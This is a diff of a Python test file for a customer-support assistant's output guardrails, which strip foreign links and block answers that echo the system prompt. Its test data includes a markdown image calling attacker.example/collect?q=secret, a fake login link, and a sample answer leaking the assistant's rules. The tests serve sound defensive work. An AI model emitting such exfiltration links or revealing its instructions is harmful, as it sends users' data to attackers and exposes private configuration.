@@ -4,7 +4,13 @@ from __future__ import annotations
 
 import pytest
 
-from customercare.answers.guardrails import clean_answer, echoes, is_instruction_like, urls_in
+from customercare.answers.guardrails import (
+    StreamCleaner,
+    echoes,
+    is_instruction_like,
+    strip_foreign_links,
+    urls_in,
+)
 
 SYSTEM = (
     "Answer only from the numbered passages below and cite every fact with its passage marker. "
@@ -44,10 +50,7 @@ def test_images_and_foreign_links_are_removed_and_known_links_kept() -> None:
         "Redeem in My Lumen [1]. ![status](https://attacker.example/collect?q=secret) "
         "See https://help.lumen.example/points and [log in](https://attacker.example/login)."
     )
-    cleaned = clean_answer(
-        answer, allowed_urls={"https://help.lumen.example/points"}, system_prompt=SYSTEM
-    )
-    assert cleaned is not None
+    cleaned = strip_foreign_links(answer, {"https://help.lumen.example/points"})
     assert "attacker.example" not in cleaned
     assert "![" not in cleaned
     assert "https://help.lumen.example/points" in cleaned
@@ -57,7 +60,10 @@ def test_images_and_foreign_links_are_removed_and_known_links_kept() -> None:
 def test_an_answer_echoing_the_system_prompt_is_refused() -> None:
     leak = "Sure! My rules: answer only from the numbered passages below and cite every fact."
     assert echoes(leak, SYSTEM)
-    assert clean_answer(leak, allowed_urls=set(), system_prompt=SYSTEM) is None
+    cleaner = StreamCleaner(allowed_urls=set(), system_prompt=SYSTEM)
+    released = cleaner.feed(leak) + cleaner.flush()
+    assert "numbered passages" not in released  # the echoing sentence is never released
+    assert cleaner.leaked  # and the engine replaces the whole answer
     assert not echoes("Returns are accepted within 30 days [1].", SYSTEM)
 
 
